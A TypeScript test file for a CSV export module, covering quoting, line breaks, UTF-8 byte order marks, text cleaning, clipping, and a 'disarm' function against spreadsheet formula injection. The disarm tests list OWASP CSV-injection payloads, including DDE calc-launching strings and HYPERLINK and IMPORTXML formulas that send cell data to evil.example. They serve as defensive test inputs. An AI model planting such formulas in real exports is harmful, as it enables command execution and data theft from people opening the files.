import * as fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { clip, cleanText, disarm } from '../../../../utils/lists/cell.ts'
import { csvBytes, csvOf } from '../../../../utils/lists/csv/csv.ts'
import { cpuTime } from '../cpu-time.ts'

const parse = (text: string): string[][] => Papa.parse<string[]>(text, { skipEmptyLines: 'greedy', delimiter: ',', newline: '\r\n' }).data

describe('csvOf', () => {
  test('quotes every field, doubles quotes, ends every record with CRLF', () => {
    expect(csvOf(['序号', '说明'], [['1', '他说“好”、"好"'], ['2', '']])).toBe('"序号","说明"\r\n"1","他说“好”、""好"""\r\n"2",""\r\n')
  })

  test('keeps line breaks within a field as LF', () => {
    expect(csvOf(['甲'], [['一\r\n二\r三\n四\u2028五']])).toBe('"甲"\r\n"一\n二\n三\n四\n五"\r\n')
  })

  test('disarms the header too', () => {
    expect(csvOf(['=1+1'], [])).toBe(`"'=1+1"\r\n`)
  })

  test('parses back to the same cells, the disarmed ones aside', () => {
    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.string(), fc.constantFrom('=1', '"', '\r\n', ',', '\uFEFF', "'=2", '\uD800', '　＝A1'))
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const expected = [['a', 'b'], ...rows.map((row) => row.map((text) => disarm(cleanText(text))))]
        const csv = csvOf(['a', 'b'], rows)
        expect(Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' }).data.slice(0, -1)).toEqual(expected)
      }),
      { numRuns: 150 },
    )
  })

  test('10,000 rows of 29 cells take well under a second', () => {
    const row = Array.from({ length: 29 }, (_, i) => `第 ${i} 格，"引号"和文字文字文字文字`)
    let csv = ''
    expect(cpuTime(() => (csv = csvOf(row, Array.from({ length: 10_000 }, () => row))))).toBeLessThan(1500)
    expect(parse(csv)).toHaveLength(10_001)
  })
})

test('csvBytes writes UTF-8 with a byte order mark', () => {
  expect([...csvBytes('"号"')]).toEqual([0xef, 0xbb, 0xbf, 0x22, 0xe5, 0x8f, 0xb7, 0x22])
})

describe('disarm', () => {
  // The strings of OWASP's "CSV Injection" page and of its testing guide, and their full-width and hidden forms.
  test.each([
    '=1+2',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '+1+2',
    '-1+2',
    '@SUM(1+1)',
    '\t=1+2',
    '\tplain',
    '\r=1+2',
    '\n=1+2',
    '\nplain',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "|cmd' /C calc'!A0",
    '%0A=1+1',
    '-5',
    '-0.5',
    '＝1+2',
    '＋1',
    '－1',
    '＠SUM(1)',
    '﹦1',
    '  =1+2',
    '\u3000＝1+2',
    '\u00a0=1',
    '\u200b=1',
    '\u2060\u200d=1',
    '\u00ad=1',
    '\ufeff=1',
    '\u202e=1',
    '\u3164=1',
    '\ufe0f=1',
    "'=1",
    "''=1",
  ])('%j', (text) => {
    expect(disarm(text)).toBe(`'${text}`)
  })

  test.each(['', '序号', '1+2', 'a=b', '2026-11-17', '“=1”', '（-1）', 'https://www.qinghe.gov.cn/?a=1', "'引号", '·-', '　正文'])('leaves %j', (text) => {
    expect(disarm(text)).toBe(text)
  })

  test('sees the sign that cleaning lays bare', () => {
    expect(csvOf(['x'], [['\u0000=1+1'], ['\u0085=2'], ['\u007f@a']])).toBe(`"x"\r\n"'=1+1"\r\n"'\n=2"\r\n"'@a"\r\n`)
  })

  test('no field of a written file ever starts with a sign', () => {
    const field = fc.tuple(fc.string({ unit: fc.constantFrom(' ', '\u3000', '\u200b', '\t', '\u0000', '\n') }), fc.constantFrom(...'=+-@|%＝＋－＠'), fc.string())
    fc.assert(
      fc.property(field, ([before, sign, rest]) => {
        expect(parse(csvOf(['x'], [[before + sign + rest]]))[1]?.[0]?.[0]).toBe("'")
      }),
    )
  })
})

describe('cleanText', () => {
  test.each([
    ['a\u0000b\u0007c\u001bd', 'abcd'],
    ['甲\u007f\u0080\u009f乙', '甲乙'],
    ['甲\t乙', '甲\t乙'],
    ['a\u000bb\u000cc\u0085d\u2029e', 'a\nb\nc\nd\ne'],
    ['\ud83d\ude00笑', '\ud83d\ude00笑'],
    ['半\ud83d', '半\ufffd'],
    ['\ude00半', '\ufffd半'],
    ['\ufffe\uffff', ''],
  ])('%j → %j', (text, expected) => {
    expect(cleanText(text)).toBe(expected)
  })
})

test('clip keeps surrogate pairs whole and says that it cut', () => {
  expect(clip('一二三四五', 5, '…')).toBe('一二三四五')
  expect(clip('一二三四五六', 5, '…')).toBe('一二三四…')
  expect(clip('一二三😀五六', 5, '…')).toBe('一二三…')
})
